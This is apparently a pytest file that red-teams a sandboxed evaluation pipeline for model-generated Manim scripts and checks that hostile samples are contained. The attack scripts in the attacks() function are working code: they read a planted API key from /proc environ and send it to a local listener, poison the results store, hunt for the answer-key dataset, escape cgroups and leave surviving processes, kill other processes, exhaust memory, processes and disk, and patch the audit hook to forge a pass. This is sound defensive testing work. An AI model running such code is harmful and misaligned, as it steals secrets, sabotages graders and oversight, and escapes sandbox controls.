"""Red team through the real pipeline (issue #13): hostile model outputs beside clean ones in one `eval` run
(real local Ray, real sandboxed renders and audits, real Parquet store). Each hostile script attempts one
attack of the issue and reports what it achieved in its own error text; the test asserts containment from
the outside (files, processes, a TCP listener, the store) and that the clean samples' rows equal those of a
run without the hostile samples (exec success, video sha256, audit report, TD_raw).

The secret, the listener's port and the runs_root are given to the scripts as the attacker would guess them.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import textwrap
import threading
from pathlib import Path

import pytest

from prism_fast.dataset.bundled import bundled_dataset_path
from prism_fast.dataset.loader import load_dataset
from prism_fast.execute.sandbox import host_isolation
from prism_fast.store import ResultsStore

from tests.pipeline.conftest import compose_config

pytestmark = pytest.mark.skipif(host_isolation().level != "namespaces", reason="needs root namespaces")

SECRET = "sk-redteam-0123456789"
SURVIVOR = "redteam-survivor-marker"

SCENE_TAIL = """
        self.play(FadeIn(Square()), run_time=0.2)
"""


def hostile(body: str) -> str:
    return ("from manim import *\nimport os, sys, glob, socket, subprocess, time\n\nclass Attack(Scene):\n"
            "    def construct(self):\n" + textwrap.indent(textwrap.dedent(body).strip(), " " * 8) + "\n"
            + SCENE_TAIL)


def attacks(runs_root: Path, port: int) -> dict[str, str]:
    rr = str(runs_root)
    return {
        # 1 + 6: secrets from the environment and from every /proc/<pid>/environ; network to 127.0.0.1
        "secrets_net": f"""
            hits = [k for k, v in os.environ.items() if {SECRET!r} in v]
            for pid in os.listdir("/proc"):
                try:
                    if {SECRET!r}.encode() in open(f"/proc/{{pid}}/environ", "rb").read():
                        hits.append(pid)
                except OSError:
                    pass
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"LEAK")
                net = "NET-OPEN"
            except OSError:
                net = "NET-BLOCKED"
            raise SystemExit(f"REPORT secrets={{len(hits)}} {{net}} procs={{len([p for p in os.listdir('/proc') if p.isdigit()])}}")
        """,
        # 3 + 4: write into the store and the caches of runs_root (found by walking the filesystem)
        "store_caches": f"""
            wrote = []
            targets = glob.glob({rr!r} + "/**", recursive=True) + [{rr!r}]
            for t in targets:
                p = t if os.path.isdir(t) else os.path.dirname(t)
                try:
                    open(os.path.join(p, "poison.parquet"), "w").write("x")
                    wrote.append(p)
                except OSError:
                    pass
            raise SystemExit(f"REPORT visible={{len(targets) - 1 if os.path.exists({rr!r}) else 0}} wrote={{len(wrote)}}")
        """,
        # 5: the answer key (the bundled dataset beside the package)
        "answer_key": """
            import prism_fast, pathlib
            root = pathlib.Path(prism_fast.__file__).parent
            found = [str(p) for p in root.rglob("*.jsonl")] + [str(p) for p in root.rglob("samples/*")]
            raise SystemExit(f"REPORT keyfiles={len(found)}")
        """,
        # 7: survive the run (new session, double fork, cgroup escape)
        "survivor": f"""
            try:
                open("/sys/fs/cgroup/pids/cgroup.procs", "w").write(str(os.getpid()))
                cg = "CG-ESCAPED"
            except OSError:
                cg = "CG-DENIED"
            subprocess.Popen(["/bin/sh", "-c", "sleep 120; : {SURVIVOR}"], start_new_session=True)
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 121; : {SURVIVOR}"])
                os._exit(0)
            print("REPORT", cg, file=sys.stderr)
        """,
        # 8: kill the worker that runs it (its parent, and everything it can see)
        "killer": """
            os.kill(os.getppid(), 9) if os.getppid() > 1 else None
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    try:
                        os.kill(int(pid), 9)
                    except OSError:
                        pass
        """,
        # 1 + 10: resources -- 16 GiB mapping, 600 processes, disk in its own dir and in /tmp, 50 MB of output
        "resources": """
            import mmap
            res = []
            try:
                mmap.mmap(-1, 16 << 30); res.append("MMAP-OK")
            except (OSError, MemoryError, ValueError):
                res.append("MMAP-DENIED")
            kids = 0
            for _ in range(600):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    time.sleep(5); os._exit(0)
                kids += 1
            res.append(f"FORKS={kids}")
            for where in (".", "/tmp"):
                n = 0
                try:
                    with open(os.path.join(where, "fill.bin"), "wb") as fh:
                        for _ in range(1024):
                            fh.write(b"x" * (1 << 20)); n += 1
                except OSError:
                    pass
                res.append(f"{where}={n}MB")
            sys.stdout.write("y" * (50 << 20))
            raise SystemExit("REPORT " + " ".join(res))
        """,
        # 2: forge a Spatial pass by patching the audit's snapshot hook (no name of the audit in the text)
        "forge": """
            k = [c for c in type(self).__mro__ if c.__name__ == "Aud" + "itHooks"]
            if k:
                setattr(k[0], "_aud" + "it_snapshot", lambda s, label: None)
            a = Text("Overlap one").move_to(ORIGIN)
            b = Text("Overlap two").move_to(ORIGIN + RIGHT * 0.2)
            self.play(FadeIn(a), FadeIn(b), run_time=0.2)
        """,
    }


class _Listener:
    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _run(tmp: Path, scripts: dict[str, str], ids: list[str], tag: str):
    from prism_fast.pipeline.run import options_from_config, run_eval

    preds = tmp / f"preds_{tag}"
    preds.mkdir()
    for sid, text in scripts.items():
        (preds / f"{sid}.py").write_text(text, encoding="utf-8")
    cfg = compose_config("model=predictions", f"model.name={tag}", f"model.predictions={preds}",
                         f"runs_root={tmp / 'runs'}", f"dataset.ids=[{','.join(ids)}]", "cluster.num_cpus=2",
                         "execute.limits.scratch_mb=256", "execute.limits.tmp_mb=64", "execute.timeout_s=120")
    opts = options_from_config(cfg)
    run_eval(opts)
    store = ResultsStore(opts.run_dir)
    return {stage: {r["id"]: r for r in store.read(stage).to_pylist()} for stage in ("exec", "audit", "td")}


def _sha(path) -> str | None:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest() if path and Path(path).exists() else None


@pytest.mark.slow
def test_hostile_samples_are_contained_and_change_no_clean_row(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    tasks = [t for t in load_dataset(bundled_dataset_path()).tasks if t.language == "en"]
    clean = {t.id: t.reference_answer for t in tasks[:2]}
    listener = _Listener()
    try:
        hostile_scripts = {t.id: hostile(body) for t, body in zip(tasks[2:], attacks(tmp_path / "runs",
                                                                                      listener.port).values())}
        names = dict(zip((t.id for t in tasks[2:]), attacks(tmp_path, 0)))
        mixed = _run(tmp_path, {**clean, **hostile_scripts}, [*clean, *hostile_scripts], "mixed")
        alone = _run(tmp_path, clean, list(clean), "alone")
    finally:
        listener.close()
    by_name = {names[sid]: sid for sid in hostile_scripts}

    def report(name: str) -> str:
        return mixed["exec"][by_name[name]]["error"] or ""

    # 1/6: no secret anywhere, no connection, its own /proc only
    assert "secrets=0 NET-BLOCKED procs=1" in report("secrets_net"), report("secrets_net")
    assert listener.connections == 0
    # 3/4: runs_root (store, caches) is not even visible
    assert "visible=0 wrote=0" in report("store_caches"), report("store_caches")
    assert not list((tmp_path / "runs").rglob("poison.parquet"))
    # 5: no reference answers in reach
    assert "keyfiles=0" in report("answer_key"), report("answer_key")
    # 7: nothing survives the run, the cgroup is not writable
    assert mixed["exec"][by_name["survivor"]]["success"]
    assert subprocess.run(["pgrep", "-f", SURVIVOR], capture_output=True).stdout.strip() == b""
    # 8: the killer killed nothing but itself; no sample lost its worker
    assert all(r["error_kind"] not in ("worker_lost", "worker_killed_by_sample") for r in mixed["exec"].values())
    # 1/10: resource attacks hit their limits
    res = report("resources")
    assert "MMAP-DENIED" in res, res
    forks = int(res.split("FORKS=")[1].split()[0])
    assert forks < 600
    # the scratch (256 MB, execute.limits.scratch_mb) and /tmp (64 MB, execute.limits.tmp_mb) filled up, not the disk
    assert int(res.split(".=")[1].split("MB")[0]) <= 256 and int(res.split("/tmp=")[1].split("MB")[0]) <= 64
    assert mixed["exec"][by_name["resources"]]["output_truncated"]
    # 2: the forged pass is an audit_tampered failure
    forged = mixed["audit"][by_name["forge"]]
    assert forged["error_kind"] == "audit_tampered" and forged["visual_structure_pass"] == 0
    # every execution recorded the sandbox it ran in
    assert {r["sandbox"] for r in mixed["exec"].values() if r.get("sandbox")} == {"namespaces"}
    # clean samples: identical rows with and without the hostile ones
    for sid in clean:
        a, b = mixed["exec"][sid], alone["exec"][sid]
        assert a["success"] and a["success"] == b["success"]
        assert _sha(a["video_path"]) == _sha(b["video_path"]) is not None
        assert mixed["audit"][sid]["visual_audit_report"] == alone["audit"][sid]["visual_audit_report"]
        assert mixed["audit"][sid]["visual_structure_pass"] == alone["audit"][sid]["visual_structure_pass"]
        assert mixed["td"][sid]["td_raw"] == alone["td"][sid]["td_raw"]
    assert json.dumps(sorted(mixed["exec"])) != json.dumps(sorted(alone["exec"]))  # the hostile run was real
